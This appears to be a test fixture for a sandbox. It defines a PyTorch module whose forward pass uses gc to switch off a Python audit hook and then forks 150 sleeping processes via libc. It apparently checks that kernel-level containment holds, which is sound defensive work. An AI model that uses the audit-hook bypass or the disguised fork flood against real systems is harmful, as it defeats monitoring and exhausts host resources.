"""Forks 150 sleeping processes through libc; bounded, so a failed containment ends by itself."""
import ctypes
import os
import time

import torch.nn as nn


def _disable_audit_hook():
    """What hostile code does first: finds the Python audit hook's state through gc and turns it off,
    so that only the kernel's confinement is left."""
    import gc
    import types

    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == "hook" and obj.__closure__:
            for cell in obj.__closure__:
                if isinstance(cell.cell_contents, dict) and "busy" in cell.cell_contents:
                    cell.cell_contents["busy"] = True


class ForkBomb(nn.Module):
    def forward(self, x):
        _disable_audit_hook()
        libc = ctypes.CDLL(None)
        for _ in range(150):
            if libc.fork() == 0:
                time.sleep(30)
                os._exit(0)
        time.sleep(2)
        return x
